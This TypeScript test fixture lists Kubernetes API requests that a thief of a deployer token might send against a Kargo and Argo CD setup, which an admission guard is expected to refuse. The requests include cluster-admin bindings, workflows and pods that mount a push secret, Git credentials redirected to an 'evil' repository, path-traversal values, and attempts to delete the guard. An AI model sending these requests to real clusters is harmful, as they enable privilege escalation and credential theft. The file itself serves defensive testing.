import { KARGO, RBAC } from "./access-world.ts";

/** A request that a thief of the deployer's token might try. */
export interface Attack {
  readonly method: "DELETE" | "PATCH" | "POST";
  readonly path: string;
  readonly body?: object;
}

const EVENTS = "kargo-fleet-events";
const ARGO = "/apis/argoproj.io/v1alpha1";
const ADMISSION = "/apis/admissionregistration.k8s.io/v1";
const OURS = { "app.kubernetes.io/managed-by": "kargo-fleet" };
const PIPELINE = { ...OURS, "kargo-fleet/service": "nginx", "kargo-fleet/team": "edge" };
const inside = (namespace: string, kind: string, api = "/api/v1") => `${api}/namespaces/${namespace}/${kind}`;

/** The API paths of custom resources. */
const KINDS: Readonly<Record<string, string>> = {
  appprojects: "AppProject",
  clusterconfigs: "ClusterConfig",
  clusterpromotiontasks: "ClusterPromotionTask",
  clusterworkflowtemplates: "ClusterWorkflowTemplate",
  projects: "Project",
  promotions: "Promotion",
  workflows: "Workflow",
};

function post(path: string, name: string, rest: object, metadata: object = {}): Attack {
  const [, apiVersion = "v1"] = /^\/apis\/([^/]+\/[^/]+)/.exec(path) ?? [];
  const kind = KINDS[path.slice(path.lastIndexOf("/") + 1)];
  const type = kind && { apiVersion, kind };
  return {
    method: "POST",
    path,
    body: { ...type, metadata: { name, labels: PIPELINE, ...metadata }, ...rest },
  };
}
const patch = (path: string, body: object): Attack => ({ method: "PATCH", path, body });
const remove = (path: string): Attack => ({ method: "DELETE", path });

const group = (name: string) => ({ kind: "Group", name, apiGroup: "rbac.authorization.k8s.io" });
const role = (kind: string, name: string) => ({ apiGroup: "rbac.authorization.k8s.io", kind, name });
const binds = (namespace: string, name: string, roleRef: object, ...subjects: object[]): Attack =>
  post(inside(namespace, "rolebindings", RBAC), name, { roleRef, subjects });

const project = inside("argocd", "appprojects/nginx", ARGO);
const application = inside("argocd", "applications/nginx-dev", ARGO);
const stage = inside("kargo-nginx", "stages/dev", KARGO);
const secret = (namespace: string, name: string, more: object, metadata: object = {}) =>
  post(inside(namespace, "secrets"), name, more, metadata);
const pod = {
  containers: [{ name: "x", image: "example.com/x" }],
  volumes: [{ name: "x", secret: { secretName: "nginx-push" } }],
};
const steals = {
  entrypoint: "x",
  templates: [{ name: "x", container: { image: "example.com/x" }, volumes: pod.volumes }],
};
const push = { name: "x", eventSourceName: "github-00", eventName: "nginx" };
const run = {
  kind: "Workflow",
  spec: { workflowTemplateRef: { name: "build-push-image", clusterScope: true } },
};
const starts = { template: { name: "x", k8s: { operation: "create", source: { resource: run } } } };
const sent = (vars: readonly object[], more: object = {}) => ({
  spec: {
    promotionTemplate: {
      spec: {
        steps: [
          { task: { name: "kargo-fleet-promote-v1", kind: "ClusterPromotionTask" }, as: "x", vars, ...more },
        ],
      },
    },
  },
});
const repository = { repoURL: "https://github.com/evil/gitops.git" };
const destination = (namespace: string) => ({ server: "https://kubernetes.default.svc", namespace });
const policies = (...all: string[]) => ({
  spec: { roles: [{ name: "team", policies: all, groups: ["AD-Edge"] }] },
});

/** Requests that RBAC allows and the guard must refuse. Each name completes "the deployer cannot …". */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "have Kubernetes fill a token into a Secret": secret(
    EVENTS,
    "github-00",
    { type: "kubernetes.io/service-account-token" },
    { annotations: { "kubernetes.io/service-account.name": "kargo-fleet-sensor" } },
  ),
  "make a Secret of another type": secret(EVENTS, "github-02", {
    type: "kubernetes.io/tls",
    data: { "tls.crt": "", "tls.key": "" },
  }),
  "make a Secret of another name": secret(EVENTS, "mine", { type: "Opaque" }),
  "make a Secret where teams build": secret("builds-edge", "nginx-push", { type: "Opaque" }),
  "have Kargo copy the Git credential into every project": patch(
    inside("kargo-shared-resources", "secrets/kargo-fleet-git"),
    { metadata: { annotations: { "kargo.akuity.io/replicate-to": "*" } } },
  ),
  "mint a token": {
    method: "POST",
    path: inside("builds-edge", "serviceaccounts/kargo-fleet-launch/token"),
    body: { spec: {} },
  },
  "start a Workflow": post(inside("builds-edge", "workflows", ARGO), "x", { spec: steals }),
  "start a run of the shared template": post(inside("builds-edge", "workflows", ARGO), "x", {
    spec: { workflowTemplateRef: { name: "build-push-image", clusterScope: true } },
  }),
  "run a pod": post(inside("builds-edge", "pods"), "x", { spec: pod }),
  "make a Job": post(inside("builds-edge", "jobs", "/apis/batch/v1"), "x", {
    spec: { template: { spec: { ...pod, restartPolicy: "Never" } } },
  }),
  "change what all builds run": patch(`${ARGO}/clusterworkflowtemplates/build-push-image`, { spec: steals }),
  "make another template": post(`${ARGO}/clusterworkflowtemplates`, "mine", { spec: steals }),
  "have a Sensor's pods run another program": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: { template: { container: { image: "example.com/x" } } },
  }),
  "have a Sensor start another Workflow": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: {
      triggers: [
        {
          template: {
            name: "x",
            k8s: { operation: "create", source: { resource: { kind: "Workflow", spec: steals } } },
          },
        },
      ],
    },
  }),
  "have a Sensor send pushes away": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: { triggers: [{ template: { name: "x", http: { url: "https://example.com" } } }] },
  }),
  "have a Sensor's pod run a script on each push": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: { dependencies: [{ ...push, transform: { script: "return os.getenv('HOME')" } }] },
  }),
  "have a Sensor's pod run a script as a filter": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: { dependencies: [{ ...push, filters: { script: "return true" } }] },
  }),
  "have a Sensor change its trigger when a push comes": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: {
      triggers: [{ ...starts, parameters: [{ src: { dependencyName: "x", value: "" }, dest: "http.url" }] }],
    },
  }),
  "have a Sensor trigger something else after a failure": patch(inside(EVENTS, "sensors/github-00", ARGO), {
    spec: {
      triggers: [
        { ...starts, dlqTrigger: { template: { name: "x", http: { url: "https://example.com" } } } },
      ],
    },
  }),
  "have an EventSource act as the Sensor": patch(inside(EVENTS, "eventsources/github-00", ARGO), {
    spec: { template: { serviceAccountName: "kargo-fleet-sensor" } },
  }),
  "open the network of builds": patch(
    inside("builds-edge", "networkpolicies/kargo-fleet-build", "/apis/networking.k8s.io/v1"),
    { spec: { egress: [{}] } },
  ),
  "stop or resume promotions": patch(inside("kargo-fleet-windows", "configmaps/kargo-fleet-stop"), {
    data: { "stop-1.reason": "x", "stop-1.by": "kargo-fleet-deployer" },
  }),
  "delete the calendar": remove(inside("kargo-fleet-windows", "configmaps/kargo-fleet-calendar")),
  "make a ConfigMap of its own": post(inside("builds-edge", "configmaps"), "mine", { data: {} }),
  ...Object.fromEntries(
    ["argocd", "kargo", EVENTS, "kargo-fleet-teams", "builds-edge", "kargo-shared-resources"].map((name) => [
      `delete the namespace ${name}`,
      remove(`/api/v1/namespaces/${name}`),
    ]),
  ),
  "make a namespace of its own": post("/api/v1/namespaces", "mine", {}),
  "make a namespace that is not a service's": post("/api/v1/namespaces", "kargo-mine", {}),
  "call the namespace argocd ours": patch("/api/v1/namespaces/argocd", { metadata: { labels: OURS } }),
  "loosen the Pod Security of a namespace": patch("/api/v1/namespaces/kargo-nginx", {
    metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
  }),
  "keep a namespace from going": patch("/api/v1/namespaces/kargo-nginx", {
    metadata: { finalizers: ["example.com/mine"] },
  }),
  "make a Kargo Project of Argo CD's namespace": post(`${KARGO}/projects`, "argocd", {}),
  "open an AppProject to every repository": patch(project, { spec: { sourceRepos: ["*"] } }),
  "open an AppProject to another repository": patch(project, { spec: { sourceRepos: [repository.repoURL] } }),
  "open an AppProject to every namespace": patch(project, { spec: { destinations: [destination("*")] } }),
  "open an AppProject to every cluster": patch(project, {
    spec: { destinations: [{ server: "*", namespace: "nginx-dev" }] },
  }),
  "open an AppProject to a namespace of the cluster": patch(project, {
    spec: { destinations: [destination("kube-system")] },
  }),
  "open an AppProject to another service's namespace": patch(project, {
    spec: { destinations: [destination("auth-prod")] },
  }),
  "allow an AppProject every cluster resource": patch(project, {
    spec: { clusterResourceWhitelist: [{ group: "*", kind: "*" }] },
  }),
  "let an AppProject's Applications be anywhere": patch(project, { spec: { sourceNamespaces: ["*"] } }),
  "let a team override in Argo CD": patch(
    project,
    policies("p, proj:nginx:team, applications, override, nginx/nginx-dev, allow"),
  ),
  "let a team see every Application": patch(
    project,
    policies("p, proj:nginx:team, applications, get, nginx/*, allow"),
  ),
  "let strangers sync": patch(project, {
    spec: { roles: [{ name: "team", policies: [], groups: ["evil"] }] },
  }),
  "make the AppProject default ours": post(
    inside("argocd", "appprojects", ARGO),
    "default",
    { spec: { sourceRepos: ["https://github.com/acme/gitops.git"], destinations: [], roles: [] } },
    { labels: { ...PIPELINE, "kargo-fleet/service": "default" } },
  ),
  "change an AppProject of others": patch(inside("argocd", "appprojects/foreign", ARGO), {
    metadata: { labels: OURS },
  }),
  "delete an AppProject of others": remove(inside("argocd", "appprojects/foreign", ARGO)),
  "delete an Application of others": remove(inside("argocd", "applications/foreign", ARGO)),
  "move an Application into the project default": patch(application, { spec: { project: "default" } }),
  "move an Application into another service's project": patch(application, { spec: { project: "auth" } }),
  "deploy from another repository": patch(application, { spec: { source: repository } }),
  "deploy from several sources": patch(application, { spec: { sources: [repository] } }),
  "deploy with values of its own": patch(application, {
    spec: { source: { helm: { valuesObject: { image: "example.com/x" } } } },
  }),
  "deploy into Kargo's namespace": patch(application, { spec: { destination: destination("kargo") } }),
  "sync by itself": patch(application, { operation: { sync: { revision: "evil" } } }),
  "have a deletion take the workload along": patch(application, {
    metadata: { finalizers: ["resources-finalizer.argocd.argoproj.io"] },
  }),
  "let another service's Stage sync": patch(application, {
    metadata: { annotations: { "kargo.akuity.io/authorized-stage": "kargo-auth:dev" } },
  }),
  "give somebody its own ClusterRole": post(`${RBAC}/clusterrolebindings`, "mine", {
    roleRef: role("ClusterRole", "kargo-fleet-deployer"),
    subjects: [group("evil")],
  }),
  "let everybody log in to Kargo": patch(`${RBAC}/clusterrolebindings/kargo-fleet-users`, {
    subjects: [group("system:authenticated")],
  }),
  "bind its own Role": binds("argocd", "mine", role("Role", "kargo-fleet-deployer"), group("evil")),
  "bind a ClusterRole under our name": binds(
    "kargo-nginx",
    "kargo-fleet-team",
    role("ClusterRole", "cluster-admin"),
    group("AD-Edge"),
  ),
  ...Object.fromEntries(
    ["evil", "system:masters", "system:authenticated"].map((name) => [
      `give ${name} a team's Role`,
      patch(inside("kargo-nginx", "rolebindings/kargo-fleet-team", RBAC), { subjects: [group(name)] }),
    ]),
  ),
  "give a team the approvers' binding of another": patch(
    inside("kargo-auth", "rolebindings/kargo-fleet-approvers", RBAC),
    { subjects: [group("AD-Identity")] },
  ),
  "let everybody start builds": patch(inside("builds-edge", "rolebindings/kargo-fleet-sensor", RBAC), {
    subjects: [group("system:authenticated")],
  }),
  "delete a binding of others": remove(
    inside("kube-system", "rolebindings/system:controller:bootstrap-signer", RBAC),
  ),
  "take the Role of the builds' account away": remove(
    inside("builds-edge", "rolebindings/kargo-fleet-launch", RBAC),
  ),
  "widen its own Role": patch(inside("builds-edge", "roles/kargo-fleet-deployer", RBAC), { rules: [] }),
  "widen a team's Role": patch(inside("kargo-nginx", "roles/kargo-fleet-team", RBAC), {
    rules: [{ apiGroups: ["kargo.akuity.io"], resources: ["stages"], verbs: ["create"] }],
  }),
  "let a team promote everywhere": patch(inside("kargo-nginx", "roles/kargo-fleet-team", RBAC), {
    rules: [{ apiGroups: ["kargo.akuity.io"], resources: ["stages"], verbs: ["promote"] }],
  }),
  "make a Role of its own": post(inside("kargo-nginx", "roles", RBAC), "mine", { rules: [] }),
  "have another group act as a team": patch(inside("kargo-fleet-teams", "serviceaccounts/team-edge"), {
    metadata: { annotations: { "rbac.kargo.akuity.io/claims": '{"groups":["evil"]}' } },
  }),
  "have one person act as a team": patch(inside("kargo-fleet-teams", "serviceaccounts/team-edge"), {
    metadata: { annotations: { "rbac.kargo.akuity.io/claim.email": "evil@example.com" } },
  }),
  "make an account of its own": post(inside("kargo-fleet-teams", "serviceaccounts"), "mine", {}),
  promote: post(inside("kargo-nginx", "promotions", KARGO), "prod.x", {
    spec: { stage: "prod", freight: "abc", steps: [{ uses: "git-clone" }] },
  }),
  "read a shared Secret by a Stage": patch(
    stage,
    sent([{ name: "image", value: "${{ sharedSecret('x') }}" }]),
  ),
  "have a Stage promote an image from elsewhere beside its own": patch(
    stage,
    sent([{ name: "images", value: "web=registry.example/nginx worker=evil.example/nginx" }]),
  ),
  "send the Git credential to another repository": patch(
    stage,
    sent([{ name: "repoURL", value: repository.repoURL }]),
  ),
  "send the token of commit statuses to another part of GitHub": patch(
    stage,
    sent([{ name: "source", value: "acme/nginx/hooks?" }]),
  ),
  "send the token of commit statuses above a repository": patch(
    stage,
    sent([{ name: "source", value: "acme/.." }]),
  ),
  "give a Stage steps of its own": patch(stage, {
    spec: {
      promotionTemplate: { spec: { steps: [{ uses: "http", config: { url: "https://example.com" } }] } },
    },
  }),
  "give a Stage a task of its own": patch(stage, sent([], { task: { name: "mine", kind: "PromotionTask" } })),
  "change the steps of all promotions": patch(`${KARGO}/clusterpromotiontasks/kargo-fleet-promote-v1`, {
    spec: { steps: [{ uses: "http" }] },
  }),
  "make a task of its own": post(`${KARGO}/clusterpromotiontasks`, "mine", {
    spec: { steps: [{ uses: "http" }] },
  }),
  "deploy an image from anywhere": patch(inside("kargo-nginx", "warehouses/nginx", KARGO), {
    spec: { subscriptions: [{ image: { repoURL: "registry.example.evil/nginx" } }] },
  }),
  "have a Warehouse read a repository": patch(inside("kargo-nginx", "warehouses/nginx", KARGO), {
    spec: { subscriptions: [{ git: repository }] },
  }),
  "take a receiver of its own": patch(inside("kargo-nginx", "projectconfigs/kargo-nginx", KARGO), {
    spec: { webhookReceivers: [{ name: "mine", github: { secretRef: { name: "mine" } } }] },
  }),
  "take a receiver for the cluster": post(`${KARGO}/clusterconfigs`, "cluster", { spec: {} }),
};

/** Requests on admission policies, which no admission policy can refuse; the deployer lacks the right. */
export const ON_GUARDS: Readonly<Record<string, Attack>> = {
  "delete its guard": remove(`${ADMISSION}/validatingadmissionpolicies/kargo-fleet-deployer`),
  "delete its guard's binding": remove(`${ADMISSION}/validatingadmissionpolicybindings/kargo-fleet-deployer`),
  "open its guard": patch(`${ADMISSION}/validatingadmissionpolicies/kargo-fleet-deployer`, {
    spec: { matchConditions: [{ name: "never", expression: "false" }] },
  }),
  "take its guard out of force": patch(
    `${ADMISSION}/validatingadmissionpolicybindings/kargo-fleet-deployer`,
    { spec: { validationActions: ["Audit"] } },
  ),
  "deny everybody everything": post(`${ADMISSION}/validatingadmissionpolicies`, "mine", {
    spec: { validations: [{ expression: "false" }] },
  }),
  "call a webhook at each request": post(`${ADMISSION}/mutatingwebhookconfigurations`, "mine", {}),
};
